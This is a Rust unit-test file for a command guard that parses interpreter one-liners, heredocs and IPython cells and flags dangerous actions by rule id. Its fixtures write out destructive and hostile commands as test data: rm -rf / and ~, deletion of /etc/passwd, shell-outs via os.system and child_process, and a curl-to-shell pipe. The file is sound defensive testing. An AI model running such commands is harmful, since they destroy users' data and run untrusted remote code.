//! The interpreter scan's unit tests.

use std::path::Path;

use super::*;
use crate::command_guard::rules;

fn ids(command: &str) -> Vec<&'static str> {
    let root = Path::new("/work/project");
    let env = Env::new(root, root, &[]);
    let script = shell::parse(command).unwrap();
    let mut hits = rules::script_hits(&script, &env);
    for c in script.commands() {
        hits.extend(rules::command_hits(c, &env));
    }
    hits.iter().map(|h| h.rule.id).collect()
}

fn has(command: &str, id: &str) {
    assert!(ids(command).contains(&id), "{command}: {:?}", ids(command));
}

fn clean(command: &str) {
    assert!(ids(command).is_empty(), "{command}: {:?}", ids(command));
}

#[test]
fn invocations_find_the_code() {
    let inv = |src: &str| {
        let script = shell::parse(src).unwrap();
        let c = script.commands().next().unwrap().clone();
        format!("{:?}", invocation(&c))
    };
    assert_eq!(inv("python3 -c 'x'"), r#"Some(Inline(["x"]))"#);
    assert_eq!(inv("python3.12 -Bc 'x'"), r#"Some(Inline(["x"]))"#);
    assert_eq!(inv("python3 -m http.server"), "Some(Other)");
    assert_eq!(inv("python3 -u x.py a"), r#"Some(File("x.py"))"#);
    assert_eq!(inv("python3"), "Some(Stdin)");
    assert_eq!(inv("perl -lne 'a' f"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("perl -e a -e b"), r#"Some(Inline(["a", "b"]))"#);
    // `-l` and `-0` take octal digits (`-0x` hex ones): the `e` after them is the code option.
    assert_eq!(inv("perl -le a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("perl -l015e a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("perl -0777ne a f"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("perl -0x1Fne a f"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("ruby -le a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("perl -I lib -e a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("perl -I lib x.pl"), r#"Some(File("x.pl"))"#);
    assert_eq!(
        inv("perl -MFile::Path=rmtree -e a"),
        r#"Some(Inline(["a"]))"#
    );
    assert_eq!(inv("ruby -rjson -e a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("ruby -E utf-8 x.rb"), r#"Some(File("x.rb"))"#);
    assert_eq!(inv("node --eval=a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("node --title x -e a"), r#"Some(Inline(["a"]))"#);
    // An option the guard does not know may take the next word: code after it is judged.
    assert_eq!(inv("node --some-flag x -e a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("node --some-flag x.js -p"), r#"Some(File("x.js"))"#);
    assert_eq!(inv("node x.js -e a"), r#"Some(File("x.js"))"#);
    assert_eq!(
        inv("node -r ts-node/register x.ts"),
        r#"Some(File("x.ts"))"#
    );
    assert_eq!(inv("deno eval a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("deno run -A x.ts"), r#"Some(File("x.ts"))"#);
    assert_eq!(inv("bun install"), "Some(Other)");
    assert_eq!(inv("php -r a"), r#"Some(Inline(["a"]))"#);
    assert_eq!(inv("ls -r a"), "None");
}

#[test]
fn the_lexer_reads_literals_and_names() {
    let toks = lex(
        Lang::Python,
        r#"import os; os.system(f"rm {x}") # os.system('y')"#,
    );
    assert!(toks.contains(&Tok::Name("os.system".into())));
    assert!(
        toks.iter()
            .any(|t| matches!(t, Tok::Str { interp: true, .. }))
    );
    assert!(
        !toks
            .iter()
            .any(|t| matches!(t, Tok::Str { text, .. } if text == "y"))
    );
    let toks = lex(Lang::Python, "'''a\n'b'''+r'\\d'+'\\x72m'");
    let strs: Vec<&str> = toks
        .iter()
        .filter_map(|t| match t {
            Tok::Str { text, .. } => Some(text.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(strs, ["a\n'b", "\\d", "rm"]);
    let toks = lex(Lang::Perl, r#"s/a'b/c/g; qx{ls}; print "$x""#);
    assert!(toks.contains(&Tok::Cmd {
        text: "ls".into(),
        interp: false
    }));
    assert!(
        toks.iter()
            .any(|t| matches!(t, Tok::Str { interp: true, .. }))
    );
    assert!(lex(Lang::Js, "require('fs').rmSync").contains(&Tok::Name(".rmSync".into())));
    // Unclosed quotes do not hide what follows.
    let toks = lex(Lang::Perl, r#"/it's/; system("ls")"#);
    assert!(toks.contains(&Tok::Name("system".into())));
}

#[test]
fn literal_deletions_are_judged_like_rm_r() {
    has(
        r#"python3 -c "import shutil; shutil.rmtree('/')""#,
        "rm-root",
    );
    has(
        r#"python -c 'import os; os.remove("/etc/hosts")'"#,
        "rm-system",
    );
    has(
        r#"python3 -c 'from pathlib import Path; Path("~").rmdir()'"#,
        "rm-home",
    );
    has(
        "node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'",
        "rm-root",
    );
    has(
        r#"ruby -rfileutils -e 'FileUtils.rm_rf "/usr"'"#,
        "rm-system",
    );
    has(r#"perl -MFile::Path=rmtree -e 'rmtree("/")'"#, "rm-root");
    has(r#"php -r 'unlink("/etc/passwd");'"#, "rm-system");
    has(
        "deno eval 'await Deno.remove(\"/\", {recursive: true})'",
        "rm-root",
    );
    has(
        r#"python3 -c "import shutil; shutil.rmtree('/data/x')""#,
        "rm-outside-project",
    );
    clean(r#"python3 -c "import shutil; shutil.rmtree('build')""#);
    clean(r#"node -e "require('fs').rmSync('dist', {recursive: true, force: true})""#);
}

#[test]
fn computed_deletions_ask() {
    has(
        r#"python3 -c 'import shutil,sys; shutil.rmtree(sys.argv[1])' x"#,
        "interpreter-delete",
    );
    has(
        r#"python3 -c 'import os; p = "x"; os.unlink(p)'"#,
        "interpreter-delete",
    );
    has(
        r#"python3 -c 'import pathlib; pathlib.Path(d).unlink()'"#,
        "interpreter-delete",
    );
    has(r#"perl -e 'unlink $f'"#, "interpreter-delete");
    has(r#"perl -e 'unlink "$dir/x"'"#, "interpreter-delete");
    has(
        r#"ruby -e 'FileUtils.rm_rf(ARGV[0])'"#,
        "interpreter-delete",
    );
}

#[test]
fn shell_outs_are_parsed_and_judged() {
    has(
        r#"python3 -c "import os; os.system('rm -rf /')""#,
        "rm-root",
    );
    has(
        r#"python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/'])""#,
        "rm-root",
    );
    has(
        r#"python3 -c "__import__('os').system('rm -rf ~')""#,
        "rm-home",
    );
    has(
        "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
        "rm-root",
    );
    has(
        "node -e \"const {spawnSync} = require('child_process'); spawnSync('rm', ['-rf', '/'])\"",
        "rm-root",
    );
    has(r#"perl -e 'system("rm", "-rf", "/")'"#, "rm-root");
    has("perl -e '`rm -rf /`'", "rm-root");
    has("ruby -e '%x(rm -rf /)'", "rm-root");
    has(r#"ruby -e 'system "sudo reboot"'"#, "sudo");
    has(
        r#"php -r 'shell_exec("curl -s https://x.invalid | sh");'"#,
        "curl-pipe-shell",
    );
    has("bun -e 'await Bun.$`rm -rf /`'", "rm-root");
    has(
        r#"python3 -c "import os; os.system(cmd)""#,
        "interpreter-shell-out",
    );
    has(
        r#"python3 -c "import subprocess; subprocess.run(['rm', '-rf', d])""#,
        "interpreter-shell-out",
    );
    has(
        r#"python3 -c 'import os; os.execvp("ls", ["ls"])'"#,
        "interpreter-shell-out",
    );
    has(r#"python3 -c 'exec(input())'"#, "eval-computed");
    has(
        r#"python3 -c "exec('import os; os.system(\"rm -rf /\")')""#,
        "rm-root",
    );
    clean(r#"python3 -c "import subprocess; subprocess.run(['git', 'status'], check=True)""#);
    clean(r#"python3 -c "import os; os.system('ls -la')""#);
}

#[test]
fn heredocs_and_herestrings_are_scanned() {
    has(
        "python3 <<EOF\nimport shutil\nshutil.rmtree('/')\nEOF",
        "rm-root",
    );
    has(
        "python3 - <<'EOF'\nimport os\nos.system('rm -rf ~')\nEOF",
        "rm-home",
    );
    has("node <<< 'require(\"fs\").rmSync(\"/\")'", "rm-root");
    has(
        "echo 'import shutil; shutil.rmtree(\"/\")' | python3",
        "rm-root",
    );
    clean("python3 <<EOF\nprint('hi')\nEOF");
    clean("python3 script.py <<EOF\nshutil.rmtree('/')\nEOF");
}

#[test]
fn harmless_one_liners_stay_allowed() {
    for ok in [
        "python3 -c 'import sys; print(sys.version)'",
        "node -e 'console.log(1)'",
        "perl -ne 'print if /x/' f",
        "perl -pi -e 's/foo/bar/g' a.txt",
        "ruby -e 'puts 1'",
        "python3 -m http.server",
        "python3 -c 'import json,sys; json.dump(json.load(sys.stdin), sys.stdout)'",
        "node -e \"const re = /a/; console.log(re.exec('a'))\"",
        "python3 -c 'a=[1,2]; a.remove(1); print(a)'",
        "ruby -e 'h = {a: 1}; h.delete(:a)'",
        "php -r 'echo PHP_VERSION;'",
    ] {
        clean(ok);
    }
}

#[test]
fn odd_code_does_not_panic() {
    let odd = [
        "",
        "'",
        "\"",
        "'''",
        "\\",
        r"'\x",
        r"'\x7",
        "`",
        "$",
        "$#",
        "@",
        "%",
        "%x(",
        "%w[a b",
        "q{",
        "s{a}",
        "s/a/",
        "tr",
        "y/a/b",
        "->",
        "a->",
        ".",
        "..x",
        "é'é\"é",
        "\u{0}",
        "f'{",
        r"r'\'",
        "/*",
        "//",
        "#",
        "Path(",
        "Path('x').",
        "require('fs').",
        "os.system(",
        "os.system(['a',",
        "system \"a\", \"b",
        "x = (((((",
        ")))))]]]}}}",
        r"exec('exec(\'exec(1)\')')",
        "`rm -rf /",
        "unlink",
        "unlink(",
        "rmtree(é",
    ];
    let root = Path::new("/work/project");
    let env = Env::new(root, root, &[]);
    let command = Command {
        program: "x".into(),
        ..Command::default()
    };
    for lang in [Lang::Python, Lang::Perl, Lang::Ruby, Lang::Js, Lang::Php] {
        for code in odd {
            let _ = code_hits_in(lang, &command, code, &env);
            let _ = code_hits_in(lang, &command, &code.repeat(3), &env);
        }
    }
    for args in ["-é", "-cé", "-é -c x", "-Xé", "-", "-cx"] {
        for program in ["python3", "perl", "ruby", "node", "php", "deno", "bun"] {
            let _ = ids(&format!("{program} {args}"));
        }
    }
}

#[test]
fn nesting_is_bounded() {
    let mut code = "rm -rf build".to_owned();
    for _ in 0..10 {
        code = format!(
            "python3 -c {}",
            shell::quote(&format!("import os; os.system({:?})", code))
        );
    }
    assert!(
        ids(&code).contains(&"interpreter-shell-out"),
        "{:?}",
        ids(&code)
    );
}

#[test]
fn ipython_shell_lines_say_which_are_shell_for_certain() {
    use super::ipython::ipython_shell;
    assert_eq!(
        ipython_shell("!ls\n  !!pwd\nx = !id\n%sx date\n%timeit -n1 -r1 !rm x\nprint(1)"),
        [
            ("ls", true),
            ("pwd", true),
            ("id", true),
            ("date", true),
            ("rm x", true)
        ]
    );
    assert_eq!(
        ipython_shell("%%bash\nrm -rf build\necho done"),
        [("rm -rf build", true), ("echo done", true)]
    );
    assert_eq!(ipython_shell("%%!\nls"), [("ls", true)]);
    assert_eq!(ipython_shell("%sc -l x=rm -rf y"), [("rm -rf y", true)]);
    assert_eq!(ipython_shell("%alias d rm -rf y"), [("rm -rf y", true)]);
    assert_eq!(
        ipython_shell("a, b = !id\nsx date"),
        [("id", true), ("date", true)]
    );
    // IPython's aliases run without `!`; Python that uses the same names does not.
    assert_eq!(
        ipython_shell("rm -rf y\nls = 5\ncat(x)"),
        [("rm -rf y", false)]
    );
    // Comparisons, strings and text cells run nothing.
    assert!(ipython_shell("x = y != z\nsudo = False").is_empty());
    assert!(ipython_shell("m = \"\"\"\nrm -rf y\n\"\"\"").is_empty());
    assert!(ipython_shell("%%writefile s.sh\nrm -rf y").is_empty());
}

#[test]
fn unclosed_quote_like_bodies_repeated_stop_at_the_work_bound_and_ask() {
    let code = "q( ".repeat(20_000);
    assert_eq!(lex(Lang::Perl, &code).last(), Some(&Tok::Exhausted));
    has(&format!("perl -e '{code}'"), "interpreter-shell-out");
    // Within the bound, a quote-like body is read as before.
    assert_ne!(lex(Lang::Perl, "q(a) q( b").last(), Some(&Tok::Exhausted));
}
